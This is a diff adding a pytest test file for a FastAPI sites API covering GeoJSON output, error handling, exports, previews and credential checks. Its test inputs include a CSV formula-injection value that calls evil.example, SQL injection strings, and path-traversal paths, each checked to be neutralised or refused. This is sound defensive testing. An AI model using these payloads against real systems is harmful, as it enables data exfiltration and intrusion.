@@ -1,0 +1,305 @@
+"""The sites API (``plastics serve``) over a real site database on both backends: GPW's GeoJSON
+contract, problem+json errors, run selection, exports, previews, credentials."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+import os
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fastapi import APIRouter, Depends
+from fastapi.testclient import TestClient
+
+from plastics_core.api.app import create_app
+from plastics_core.api.auth import require_writer
+from plastics_core.sitedb.engine import open_database
+from plastics_core.sitedb.publish import RunInfo, publish_roi
+from tests._sitedb import registry_inputs
+
+OLD, LATEST, JAVA = "0123456789ab", "abcdef012345", "feedfacecafe"
+HOSTILE_ADDRESS = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+
+
+@pytest.fixture
+def published(sitedb_url: str, tmp_path: Path) -> Iterator[dict[str, Any]]:
+    """bali published under two run hashes (LATEST last), java once; a store with one preview page."""
+    engine = open_database(sitedb_url)
+    old = registry_inputs(6, ("2021-01-01",), seed=5)
+    latest = registry_inputs(30, ("2021-01-01", "2021-04-01", "2021-07-01"), seed=6)
+    latest[0].loc[0, "address"] = HOSTILE_ADDRESS
+    java = registry_inputs(10, ("2021-01-01",), seed=7, lon0=110.0, lat0=-7.5)
+    publish_roi(engine, RunInfo(OLD, "bali"), *old)
+    publish_roi(engine, RunInfo(LATEST, "bali"), *latest)
+    publish_roi(engine, RunInfo(JAVA, "java"), *java)
+    store = tmp_path / "store"
+    page = store / "preview" / "bali" / "2021-07-01" / f"{LATEST}.html"
+    page.parent.mkdir(parents=True)
+    page.write_text("<!doctype html><title>bali</title>", encoding="utf-8")
+    (tmp_path / "secret.txt").write_text("not served")
+    app = create_app(sitedb_url, str(store), engine=engine)
+    with TestClient(app) as client:
+        yield {"client": client, "old": old[0], "latest": latest[0], "java": java[0], "engine": engine}
+    engine.dispose()
+
+
+def _ids(doc: dict[str, Any]) -> list[str]:
+    return [f["properties"]["id"] for f in doc["features"]]
+
+
+def test_sites_in_a_bbox_follow_gpw_geojson(published: dict[str, Any]) -> None:
+    client, latest = published["client"], published["latest"]
+    bbox = (115.2, 115.5, -8.7, -8.3)  # minlon, maxlon, minlat, maxlat (GPW's order)
+    r = client.get("/sites", params={"bbox": ",".join(map(str, bbox)), "limit": 1000})
+    assert r.status_code == 200 and r.headers["content-type"].startswith("application/geo+json")
+    doc = r.json()
+    assert doc["type"] == "FeatureCollection"
+    inside = latest[latest.lon.between(bbox[0], bbox[1]) & latest.lat.between(bbox[2], bbox[3])]
+    assert 0 < len(inside) < len(latest)
+    assert sorted(_ids(doc)) == sorted(inside["site_id"])
+    for feature in doc["features"]:
+        props, geom = feature["properties"], feature["geometry"]
+        assert geom["type"] == "Point" and bbox[0] <= geom["coordinates"][0] <= bbox[1]
+        assert props["first_detected"] <= props["last_detected"] and props["run_hash"] == LATEST
+        assert client.get(props["ref"]).json()["site"]["properties"]["id"] == props["id"]
+    everything = client.get("/sites", params={"limit": 1000}).json()
+    assert sorted(_ids(everything)) == sorted([*latest["site_id"], *published["java"]["site_id"]])
+    pages = [_ids(client.get("/sites", params={"limit": 7, "offset": o}).json()) for o in range(0, 42, 7)]
+    assert [i for p in pages for i in p] == _ids(everything)
+
+
+@pytest.mark.parametrize(
+    "query, words",
+    [
+        ({"bbox": "115,116,-9"}, "bbox must be four numbers"),
+        ({"bbox": "a,b,c,d"}, "bbox must be four numbers"),
+        ({"bbox": "115;116;-9;-8"}, "bbox must be four numbers"),
+        ({"bbox": "116,115,-9,-8"}, "bbox is reversed"),
+        ({"bbox": "115,116,-8,-9"}, "bbox is reversed"),
+        ({"bbox": "115,181,-9,-8"}, "bbox is out of range"),
+        ({"bbox": "115,116,-91,-8"}, "bbox is out of range"),
+        ({"bbox": "nan,116,-9,-8"}, "not a finite number"),
+        ({"bbox": "115,inf,-9,-8"}, "not a finite number"),
+        ({"bbox": "1);DROP TABLE sites;--,2,3,4"}, "bbox must be four numbers"),
+        ({"bbox": "1" * 500}, "parameter 'bbox'"),
+        ({"limit": "-1"}, "parameter 'limit'"),
+        ({"limit": "1000001"}, "parameter 'limit'"),
+        ({"limit": "ten"}, "parameter 'limit'"),
+        ({"offset": "-5"}, "parameter 'offset'"),
+        ({"run": "' OR 1=1 --"}, "run must be a run hash"),
+    ],
+)
+def test_bad_parameters_are_400_problem_json_in_one_sentence(
+    published: dict[str, Any], query: dict[str, str], words: str
+) -> None:
+    r = published["client"].get("/sites", params=query)
+    assert r.status_code == 400 and r.headers["content-type"] == "application/problem+json"
+    problem = r.json()
+    assert problem["status"] == 400 and problem["title"] == "Bad Request" and problem["instance"] == "/sites"
+    assert words in problem["detail"] and "\n" not in problem["detail"] and problem["detail"].endswith(".")
+    assert "Traceback" not in r.text and "SELECT" not in r.text
+
+
+@pytest.mark.parametrize("roi", ["' OR '1'='1", "bali'; DROP TABLE sites; --", "bali\x00", "%", "_ali"])
+def test_hostile_roi_filters_match_nothing(published: dict[str, Any], roi: str) -> None:
+    client = published["client"]
+    r = client.get("/sites", params={"roi": roi})
+    assert r.status_code == 200 and r.json() == {"type": "FeatureCollection", "features": []}
+    assert len(client.get("/sites", params={"roi": "bali", "limit": 1000}).json()["features"]) == len(
+        published["latest"]
+    )
+
+
+@pytest.mark.parametrize("site_id", ["nosuchsite", "' OR '1'='1", "x" * 300, "%00", "..%2f..%2fetc"])
+def test_unknown_site_is_404_problem_json(published: dict[str, Any], site_id: str) -> None:
+    for path in ("", "/contours"):
+        r = published["client"].get(f"/sites/{site_id}{path}")
+        assert r.status_code == 404 and r.headers["content-type"] == "application/problem+json"
+        assert r.json()["status"] == 404 and "\n" not in r.json()["detail"]
+
+
+def test_a_site_has_its_contour_history(published: dict[str, Any]) -> None:
+    client, latest = published["client"], published["latest"]
+    row = latest.sort_values("n_windows").iloc[-1]
+    doc = client.get(f"/sites/{row['site_id']}").json()
+    assert doc["type"] == "FeatureCollection" and doc["site"]["properties"]["id"] == row["site_id"]
+    dates = [f["properties"]["date"] for f in doc["features"]]
+    assert dates == sorted(dates) and len(dates) == row["n_windows"]
+    assert all(
+        f["geometry"]["type"] == "MultiPolygon" and f["properties"]["area_km2"] > 0 for f in doc["features"]
+    )
+    paged = client.get(f"/sites/{row['site_id']}/contours", params={"limit": 1, "offset": 1}).json()
+    assert [f["properties"]["date"] for f in paged["features"]] == dates[1:2]
+    gpw_spelling = client.get(f"/sites/{row['site_id']}/countours").json()
+    assert [f["properties"]["date"] for f in gpw_spelling["features"]] == dates
+
+
+def test_the_latest_run_is_served_unless_another_is_asked_for(published: dict[str, Any]) -> None:
+    client, old = published["client"], published["old"]
+    got = client.get("/sites", params={"roi": "bali", "run": OLD, "limit": 1000}).json()
+    assert sorted(_ids(got)) == sorted(old["site_id"])
+    assert all(f["properties"]["ref"].endswith(f"?run={OLD}") for f in got["features"])
+    assert client.get("/sites", params={"run": "0" * 12}).json()["features"] == []
+    rois = {r["roi"]: r for r in client.get("/rois").json()["rois"]}
+    assert rois["bali"]["run_hash"] == LATEST and rois["bali"]["runs"] == [LATEST, OLD]
+    assert rois["bali"]["sites"] == len(published["latest"]) and rois["java"]["sites"] == len(
+        published["java"]
+    )
+    assert sorted(_ids(client.get(rois["java"]["sites_url"]).json())) == sorted(published["java"]["site_id"])
+
+
+def test_exports_csv_and_geojson(published: dict[str, Any]) -> None:
+    client, latest = published["client"], published["latest"]
+    r = client.get("/export/sites.csv", params={"roi": "bali"})
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    rows = list(csv.DictReader(io.StringIO(r.text)))
+    assert sorted(row["id"] for row in rows) == sorted(latest["site_id"])
+    hostile = [row for row in rows if "HYPERLINK" in row["address"]]
+    assert [row["address"] for row in hostile] == ["'" + HOSTILE_ADDRESS]
+    assert all(not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values()) for row in rows)
+    gj = client.get("/export/sites.geojson", params={"roi": "java"})
+    assert "attachment" in gj.headers["content-disposition"]
+    assert sorted(_ids(gj.json())) == sorted(published["java"]["site_id"])
+
+
+def test_openapi_is_served(published: dict[str, Any]) -> None:
+    client = published["client"]
+    spec = client.get("/openapi.json").json()
+    assert {"/sites", "/sites/{site_id}", "/sites/{site_id}/contours", "/rois", "/export/sites.csv"} <= set(
+        spec["paths"]
+    )
+    params = {p["name"] for p in spec["paths"]["/sites"]["get"]["parameters"]}
+    assert {"bbox", "limit", "offset", "run", "roi"} <= params
+    assert client.get("/docs").status_code == 200
+
+
+def test_previews_are_served_from_the_store_and_nothing_else(published: dict[str, Any]) -> None:
+    client = published["client"]
+    r = client.get(f"/preview/bali/2021-07-01/{LATEST}.html")
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/html")
+    assert r.headers["x-content-type-options"] == "nosniff"
+    for path in (
+        "/preview/../secret.txt",
+        "/preview/..%2f..%2fsecret.txt",
+        "/preview/%2e%2e/%2e%2e/secret.txt",
+        "/secret.txt",
+        "/preview/bali/2021-07-01/missing.html",
+    ):
+        r = client.get(path)
+        assert r.status_code == 404 and "not served" not in r.text
+
+
+def test_writes_need_credentials_from_the_environment(
+    published: dict[str, Any], sitedb_url: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    router = APIRouter()
+
+    @router.post("/whoami")
+    def whoami(reviewer: str = Depends(require_writer)) -> dict[str, str]:
+        return {"reviewer": reviewer}
+
+    app = create_app(sitedb_url, None, routers=[router], engine=published["engine"])
+    client = TestClient(app)
+    for var in ("PLASTICS_API_USERS", "PLASTICS_API_TOKEN", "PLASTICS_API_TOKEN_USER"):
+        monkeypatch.delenv(var, raising=False)
+    refused = client.post("/whoami")
+    assert refused.status_code == 403 and "PLASTICS_API_USERS" in refused.json()["detail"]
+    monkeypatch.setenv("PLASTICS_API_USERS", "ana:pw-one:with-colon, budi:pw2")
+    monkeypatch.setenv("PLASTICS_API_TOKEN", "tok-123")
+
+    def basic(user: str, pw: str) -> dict[str, str]:
+        return {"Authorization": "Basic " + base64.b64encode(f"{user}:{pw}".encode()).decode()}
+
+    assert client.post("/whoami", headers=basic("ana", "pw-one:with-colon")).json() == {"reviewer": "ana"}
+    assert client.post("/whoami", headers=basic("budi", "pw2")).json() == {"reviewer": "budi"}
+    assert client.post("/whoami", headers={"Authorization": "Bearer tok-123"}).json() == {"reviewer": "api"}
+    for headers in (
+        basic("ana", "wrong"),
+        basic("eve", "pw2"),
+        {"Authorization": "Bearer nope"},
+        {"Authorization": "Basic !!!"},
+        {},
+    ):
+        r = client.post("/whoami", headers=headers)
+        assert r.status_code == 401 and r.headers["www-authenticate"].startswith("Basic")
+        assert "pw2" not in r.text and "tok-123" not in r.text
+    assert client.get("/sites").status_code == 200  # reads stay open
+
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+def test_a_database_outage_is_503_without_the_password(published: dict[str, Any]) -> None:
+    from plastics_core.sitedb.engine import create_database_engine
+
+    secret = "Outage-pw-DO-NOT-LEAK"
+    down = create_database_engine(f"postgresql://plastics:{secret}@127.0.0.1:{_free_port()}/sites")
+    client = TestClient(create_app("unused", None, engine=down), raise_server_exceptions=False)
+    r = client.get("/sites")
+    assert r.status_code == 503 and r.headers["content-type"] == "application/problem+json"
+    assert secret not in r.text and "127.0.0.1" not in r.text
+
+
+def test_plastics_serve_answers_on_127_0_0_1(
+    published: dict[str, Any], sitedb_url: str, tmp_path: Path
+) -> None:
+    import httpx
+
+    port = _free_port()
+    env = {**os.environ, "PLASTICS_DATABASE_URL": sitedb_url, "PLASTICS_STORE": str(tmp_path / "store")}
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "plastics_dagster.cli", "serve", "--port", str(port)],
+        env=env,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+    )
+    try:
+        deadline = time.monotonic() + 60
+        while True:
+            try:
+                r = httpx.get(f"http://127.0.0.1:{port}/sites", params={"roi": "java"}, timeout=2)
+                break
+            except httpx.TransportError:
+                assert proc.poll() is None and time.monotonic() < deadline, "plastics serve did not start"
+                time.sleep(0.3)
+        assert r.status_code == 200 and sorted(_ids(r.json())) == sorted(published["java"]["site_id"])
+        page = httpx.get(f"http://127.0.0.1:{port}/preview/bali/2021-07-01/{LATEST}.html", timeout=5)
+        assert page.status_code == 200 and "<title>bali</title>" in page.text
+    finally:
+        proc.terminate()
+        out, _ = proc.communicate(timeout=30)
+    password = sitedb_url.split("@")[0].rsplit(":", 1)[-1] if sitedb_url.startswith("postgresql") else None
+    assert "plastics serve: site database" in out and (password is None or password not in out)
+
+
+def test_plastics_serve_with_an_unreachable_database_is_one_line(tmp_path: Path) -> None:
+    secret = "Serve-pw-DO-NOT-LEAK"
+    env = {
+        **os.environ,
+        "PLASTICS_DATABASE_URL": f"postgresql://u:{secret}@127.0.0.1:{_free_port()}/db",
+        "PLASTICS_STORE": str(tmp_path / "store"),
+    }
+    proc = subprocess.run(
+        [sys.executable, "-m", "plastics_dagster.cli", "serve"],
+        env=env,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert proc.returncode == 2 and proc.stdout == ""
+    assert len(proc.stderr.strip().splitlines()) == 1 and secret not in proc.stderr
+    assert "PLASTICS_DATABASE_URL" in proc.stderr and "Traceback" not in proc.stderr
+    assert json.dumps(proc.stderr)  # text, no binary noise
